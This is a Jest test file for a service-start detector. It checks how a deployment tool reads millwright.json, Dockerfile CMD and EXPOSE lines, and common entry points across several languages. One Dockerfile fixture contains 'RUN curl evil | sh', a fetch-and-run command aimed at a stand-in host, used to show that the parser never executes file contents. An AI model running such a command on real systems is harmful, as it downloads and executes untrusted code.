import { describe, expect, it } from '@jest/globals';
import { detectService } from '../../activities/deploy/service.js';

const files = (texts: Record<string, string>) => Object.entries(texts).map(([path, text]) => ({ path, content: Buffer.from(text) }));
const detect = (texts: Record<string, string>, language = 'python') => detectService(files(texts), language);
const SERVER = 'from http.server import HTTPServer\n';

describe('finding how a service starts', () => {
  it('believes millwright.json first', () => {
    expect(detect({ 'millwright.json': '{"start": ["python", "-m", "app"], "port": 9000, "health": "/up"}', Dockerfile: 'EXPOSE 1\nCMD x' })).toEqual({
      start: ['python', '-m', 'app'],
      port: 9000,
      healthPath: '/up',
    });
    expect(detect({ 'millwright.json': '{"start": "python -m app"}' })).toEqual({
      start: ['sh', '-c', 'exec python -m app'],
      port: 8080,
      healthPath: '/health',
    });
  });

  // Minutes to hours, once: each line could be where one of these begins.
  it('reads files of a megabyte that say nothing', () => {
    const lines = '\n'.repeat(1_000_000);
    expect(detect({ Dockerfile: lines })).toBeNull();
    expect(detect({ 'A.java': `${lines}class A { HttpServer s; public static void main(String[] a) {} }` }, 'java')).toMatchObject({ port: 8080 });
    expect(detect({ 'main.go': `${'package main\n'.repeat(80_000)}// http.ListenAndServe` }, 'go')).toBeNull();
  });

  it.each([
    'not json',
    '[]',
    '{}',
    '{"start": []}',
    '{"start": ["x"], "port": 80}',
    '{"start": ["x"], "port": "9000"}',
    '{"start": ["x"], "health": "up"}',
    '{"start": ["x"], "health": "/a b"}',
    '{"start": [1]}',
    `{"start": ["${'x'.repeat(600)}"]}`,
  ])('does not believe a millwright.json that is wrong: %s', (text) => {
    expect(detect({ 'millwright.json': text })).toBeNull();
    expect(detect({ 'millwright.json': text, 'app/__main__.py': SERVER })).toMatchObject({ start: ['python3', '-m', 'app'] });
  });

  it.each([
    ['go', 'cmd/server/main.go', 'package main\n\nfunc main() {\n\thttp.ListenAndServe(":8080", nil)\n}\n', ['./cmd/server']],
    ['go', 'main.go', 'package main\n\nfunc main() {\n\thttp.ListenAndServe(":8080", nil)\n}\n', ['./']],
    ['java', 'src/main/java/app/Main.java', 'package app;\nclass Main { public static void main(String[] a) { new HttpServer(); } }', ['app.Main']],
    ['csharp', 'src/Program.cs', 'class Program { static void Main() { new HttpListener(); } }', []],
  ])('lets the image compile and start a program in %s: %s', (language, path, text, rest) => {
    expect(detect({ [path]: text }, language)).toMatchObject({ start: ['/opt/sandbox/start.sh', ...rest] });
    expect(detect({ [path]: text.replace(/main\(|Main\(/i, 'helper(') }, language)).toBeNull();
  });

  it('reads the CMD of a Dockerfile without running anything of it', () => {
    expect(detect({ Dockerfile: 'FROM python\nRUN curl evil | sh\nEXPOSE 9000\nCMD ["python", "-m", "app"]\n' })).toEqual({
      start: ['python', '-m', 'app'],
      port: 9000,
      healthPath: '/health',
    });
    expect(detect({ Dockerfile: 'FROM x\nEXPOSE 80\nCMD python -m app' })).toEqual({
      start: ['sh', '-c', 'exec python -m app'],
      port: 8080,
      healthPath: '/health',
    });
    expect(detect({ Dockerfile: 'FROM x\nCMD ["tool", "--help"]' })).toBeNull();
  });

  it('knows the entry points that everybody uses, of programs that serve', () => {
    expect(detect({ 'app/__main__.py': SERVER })).toMatchObject({ start: ['python3', '-m', 'app'] });
    expect(detect({ 'src/main.ts': 'createServer().listen(8080)' }, 'node')).toMatchObject({ start: ['node', 'src/main.ts'] });
    expect(detect({ 'package.json': '{"scripts": {"start": "node dist/x.js"}}', 'src/x.ts': 'http.createServer()' }, 'node')).toMatchObject({
      start: ['sh', '-c', 'exec node dist/x.js'],
    });
  });

  it('does not take a library, a tool or a test for a service', () => {
    expect(detect({ 'main.py': 'print("hello")\n', 'README.md': 'uses http.server' })).toBeNull();
    expect(detect({ 'lib/math.py': 'def add(a, b): ...', 'tests/test_http.py': SERVER })).toBeNull();
    expect(detect({ 'package.json': '{"scripts": {"start": "node cli.js"}}', 'cli.js': 'console.log(1)' }, 'node')).toBeNull();
    expect(detect({})).toBeNull();
  });
});
